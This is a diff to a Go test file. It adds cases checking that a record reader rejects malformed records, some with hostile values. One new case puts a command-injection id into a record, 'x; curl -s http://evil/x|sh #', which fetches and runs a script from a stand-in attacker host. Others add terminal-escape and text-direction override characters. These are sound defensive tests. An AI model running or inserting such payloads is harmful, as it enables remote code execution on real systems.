@@ -44,7 +44,7 @@ var (
 
 var anyRecord = rapid.Custom(func(t *rapid.T) *Record {
 	r := &Record{
-		V: recordVersion, ID: anyID.Draw(t, "id"), Policy: "p" + anyText.Draw(t, "policy"),
+		V: recordVersion, ID: anyID.Draw(t, "id"), Policy: anyName.Draw(t, "policy"),
 		Phase: rapid.SampledFrom([]Phase{Pending, Acting, Verifying, Exhausted}).Draw(t, "phase"),
 		Step:  anyStep.Draw(t, "step"), Began: anyTime.Draw(t, "began"), Since: anyTime.Draw(t, "since"), Deadline: anyTime.Draw(t, "deadline"),
 		Done: rapid.SliceOfN(rapid.Map(anyStep, StepRef.String), 0, 5).Draw(t, "done"),
@@ -141,6 +141,10 @@ func TestRecordThatDrydockWouldNotWriteIsNotRead(t *testing.T) {
 		"longer than Drydock writes":            change(`"policy":"p"`, `"policy":"`+strings.Repeat("p", maxRecordBytes)+`"`),
 		"no id":                                 change(`"id":"r1",`, ``),
 		"no policy":                             change(`"policy":"p",`, ``),
+		"an id that is a command":               change(`"id":"r1"`, `"id":"x; curl -s http://evil/x|sh #"`),
+		"an id that is too long":                change(`"id":"r1"`, `"id":"abcdefg"`),
+		"a policy that steers a terminal":       change(`"policy":"p"`, `"policy":"p\u009b31m"`),
+		"a policy that is written backwards":    change(`"policy":"p"`, `"policy":"p\u202e"`),
 		"no cause":                              change(`"alert":"a"`, ``),
 		"two causes":                            change(`"alert":"a"`, `"alert":"a","request":"remediation/reboot"`),
 		"a phase that does not exist":           change(`"Verifying"`, `"Recovered"`),
